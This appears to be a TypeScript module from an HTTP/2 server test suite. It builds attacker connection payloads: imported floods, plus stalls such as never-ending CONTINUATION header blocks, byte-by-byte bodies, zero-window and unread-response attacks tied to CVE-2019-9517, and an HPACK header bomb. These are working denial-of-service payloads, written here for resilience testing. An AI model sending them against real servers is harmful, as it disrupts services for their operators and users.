// What an attacker sends on each connection: the floods of the tests, and stalls.
import {
  data,
  endHeaders,
  frame,
  frameTypes,
  headers,
  initialWindow,
  literal,
  post,
  postHead,
  preface,
  settings,
  streamIds,
  text,
  times,
  windowUpdate,
} from './frames.ts'
import { floods } from './floods.ts'

export type Attack = {
  readonly name: string
  readonly first: Buffer
  readonly send: Buffer
  /** Sent repeatedly for as long as the connection lasts. */
  readonly drip?: Buffer
  /** The attacker reads no responses. */
  readonly isDeaf?: boolean
}

const begin = Buffer.concat([preface, settings()])
const noWindow = Buffer.concat([preface, settings([initialWindow, 0])])
const wide = Buffer.concat([preface, settings([initialWindow, 0x7fff_ffff])])
const nothing = Buffer.alloc(0)
const large = Buffer.concat([
  Buffer.of(0x40),
  text('a'),
  Buffer.from('7fa11e', 'hex'), // 4,000 bytes
  Buffer.alloc(4_000, 'x'),
])
const bomb = Buffer.concat([postHead('/'), large, Buffer.alloc(12_000, 0xbe)])
const hundred = (path: string, flags?: number): Buffer =>
  Buffer.concat(streamIds(100).map((id) => post(id, path, flags)))

const stalls: readonly Attack[] = [
  { name: 'nothing but a connection', first: nothing, send: nothing },
  { name: 'half a preface', first: preface.subarray(0, 10), send: nothing },
  { name: 'a preface and nothing more', first: begin, send: nothing },
  {
    name: 'header blocks that never end',
    first: begin,
    send: post(1, '/', 0),
    drip: frame(frameTypes.continuation, 0, 1, literal('a', 'b')),
  },
  {
    name: 'bodies that come byte by byte',
    first: begin,
    send: hundred('/', endHeaders),
    drip: Buffer.concat(streamIds(100).map((id) => data(id, Buffer.of(0)))),
  },
  {
    name: 'bodies that never end, up to the window',
    first: begin,
    send: Buffer.concat([
      hundred('/', endHeaders),
      times(4, (i) => data(2 * i + 1, Buffer.alloc(16_000))),
    ]),
  },
  {
    name: 'answers for which there is no window (CVE-2019-9517)',
    first: noWindow,
    send: hundred('/large'),
  },
  {
    name: 'answers that are never read (CVE-2019-9517)',
    first: wide,
    send: Buffer.concat([windowUpdate(0, 0x7fff_0000 - 65_535), hundred('/large')]),
    isDeaf: true,
  },
  {
    name: 'references to one large header (HPACK bomb)',
    first: begin,
    send: times(50, (i) => headers(2 * i + 1, bomb)),
  },
]

export const attacks: readonly Attack[] = [
  ...floods.map(([name, first, flood]) => ({
    name,
    first: Buffer.concat([preface, first]),
    send: flood(),
  })),
  ...stalls,
]
